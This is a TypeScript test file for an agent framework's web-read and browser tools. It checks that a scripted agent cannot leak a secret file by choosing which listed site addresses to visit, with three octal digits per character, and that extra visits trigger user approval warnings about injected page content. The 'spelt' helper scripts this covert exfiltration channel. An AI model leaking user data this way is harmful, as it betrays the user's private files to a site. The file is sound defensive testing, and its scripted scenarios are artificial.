import { describe, expect, it } from 'vitest';
import type { Question } from '../../../../src/core/human.js';
import type { JsonValue } from '../../../../src/core/json.js';
import { RoleZero } from '../../../../src/agent/role-zero.js';
import type { RoleZeroOptions } from '../../../../src/agent/runtime/role-zero-options.js';
import { Session } from '../../../../src/session/session.js';
import { memoryStorage } from '../../../../src/storage/memory-storage.js';
import { commands, scriptedModel } from '../../../../src/testing/index.js';
import { browser } from '../../../../src/tools/browser/browser.js';
import type { FrameRequest } from '../../../../src/tools/browser/frame-protocol.js';
import { editor } from '../../../../src/tools/index.js';
import { webRead } from '../web-read.js';

type Command = [name: string, args: Record<string, JsonValue>];

const SITE = 'https://news.example/';
const LISTED = '01234567'.split('').map((digit) => SITE + digit);
const SECRET = 'SECRET-4711-mirabelle';
const REQUEST = `Read the news at ${SITE}.`;
const end: Command = ['end', {}];
const visit = (url: string): Command => ['Web.read', { url }];
const readMine: Command = ['Editor.read', { path: '/mine.txt' }];

/** The reads of listed addresses that spell a text: three digits for each character. */
const spelt = (text: string): Command[] =>
  text
    .split('')
    .flatMap((character) => character.charCodeAt(0).toString(8).padStart(3, '0').split(''))
    .map((digit) => visit(SITE + digit));

interface Choice extends RoleZeroOptions {
  answer?: string;
  requests?: readonly string[];
}

/** Runs the commands in one reply each. Several requests share one session; each ends its replies with `end`. */
async function obey(
  turns: readonly (readonly (readonly Command[])[])[],
  { answer = 'no', requests = [REQUEST], ...options }: Choice = {},
) {
  const visited: string[] = [];
  const questions: Question[] = [];
  const think = turns.flatMap((replies) => [...replies, [end]].map((reply) => commands(...reply)));
  const role = new RoleZero({
    model: scriptedModel({ think }),
    tools: [
      editor(),
      webRead((url) => {
        visited.push(url);
        return LISTED.join(' ');
      }),
    ],
    summarize: false,
    ...options,
  });
  const storage = memoryStorage();
  const open = () =>
    Session.open({
      storage,
      name: 's',
      takeOver: true,
      roles: [role],
      askUser: async (question) => {
        questions.push(question);
        return answer;
      },
      emit: () => {},
      now: () => 0,
    });
  const session = await open();
  await session.files.write('/mine.txt', SECRET);
  for (const request of requests) await (await session.send(request)).result;
  await session.close();
  return { visited, questions: questions.filter(({ kind }) => kind === 'approval') };
}

describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
  ['without options', {}],
  ['with capabilities', { capabilities: { outside: ['*'], origins: ['https://*'] } }],
])('%s, at a site that the user named', (_setting, options) => {
  it('a secret from a file cannot be spelt with the addresses that the site lists', async () => {
    const inOne = await obey([[[visit(SITE)], [readMine], spelt(SECRET)]], options);
    const apart = await obey([[[visit(SITE)], [readMine], ...spelt(SECRET).map((each) => [each])]], options);
    for (const { visited, questions } of [inOne, apart]) {
      expect(visited).toEqual([SITE]);
      expect(questions).toHaveLength(1);
    }
  });

  it('reads each address that the user named twice, and asks for more', async () => {
    const requests = [`Read ${LISTED[0]} and ${LISTED[1]}.`];
    const bits = '1011001110001'.split('').map((digit) => visit(SITE + digit));
    const { visited, questions } = await obey([[[visit(`${SITE}0`)], [readMine], bits]], {
      ...options,
      requests,
    });
    expect(visited).toEqual(['0', '1', '0', '1'].map((digit) => SITE + digit));
    expect(questions).toHaveLength(1);
  });

  it('asks once per run for all further reads, and says how many there were', async () => {
    const { visited, questions } = await obey(
      [[[visit(SITE)], [readMine], spelt('ab'), spelt('cd')], [spelt('ef')]],
      { ...options, answer: 'yes', requests: [REQUEST, 'Go on.'] },
    );
    expect(visited).toHaveLength(1 + 18);
    expect(questions.map(({ details }) => details?.split('\n')[0])).toEqual([
      'You have not mentioned this page of the site. It is the first such page. By choosing which pages to open, and how many, Zero could pass on to the site what it has read. Zero has read content of https://news.example/: it may have made Zero do this, without you wanting it.',
      'You have not mentioned this page of the site. 12 such pages were opened before. By choosing which pages to open, and how many, Zero could pass on to the site what it has read. Zero has read content of https://news.example/, https://news.example/1, https://news.example/4 and 2 more: it may have made Zero do this, without you wanting it.',
    ]);
    expect(questions[0]?.details).toContain('It then allows every Web.read at https://news.example');
  });

  it('follows two links unasked while only the words of the user are private', async () => {
    const { visited, questions } = await obey([[[visit(SITE)], spelt('hunter2!')]], options);
    expect(visited).toHaveLength(1 + 2);
    expect(questions).toHaveLength(1);
  });

  it('counts the reads of all runs', async () => {
    const { visited } = await obey([[[visit(SITE)], spelt('a')], [spelt('b')]], {
      ...options,
      requests: [REQUEST, 'Go on.'],
    });
    expect(visited).toHaveLength(1 + 2);
  });
});

it('another port of a host that the user named is not named', async () => {
  const { visited } = await obey([[[visit(SITE)], [visit('https://news.example:8443/')]]], {
    requests: ['Read news.example.'],
  });
  expect(visited).toEqual([SITE]);
});

it('links in the view of a page are named by its site', async () => {
  const asked: string[] = [];
  const urls = ['https://news.example/', 'https://news.example/start', 'https://news.example/other'];
  const think = [...urls.map((url) => commands(['Browser.goto', { url }])), commands(end)];
  const view = { serial: 1, text: "[1] link 'Start' url: /start", page: 1, pages: 1, changes: null };
  const session = await Session.open({
    storage: memoryStorage(),
    name: 's',
    roles: [new RoleZero({ model: scriptedModel({ think }), tools: [browser()], summarize: false })],
    askUser: async ({ command, details = '' }) => {
      asked.push(`${String(command?.args['url'])} ${details.split('\n')[0]}`);
      return 'no';
    },
    callPage: async (_id, _name, request) => {
      const { action } = request as FrameRequest;
      const url = action.do === 'goto' ? action.url : '';
      return {
        instance: 'one',
        tabs: [{ url, title: '' }],
        current: 0,
        empty: false,
        outside: true,
        restored: 0,
        notices: [],
        downloads: [],
        view,
        log: null,
        image: null,
      };
    },
    emit: () => {},
    now: () => 0,
  });
  await (
    await session.send(REQUEST)
  ).result;
  await session.close();
  expect(asked).toEqual([
    'https://news.example/other Zero made up this web address itself. Zero has read content of https://news.example/, https://news.example/start: it may have made Zero do this, without you wanting it.',
  ]);
});
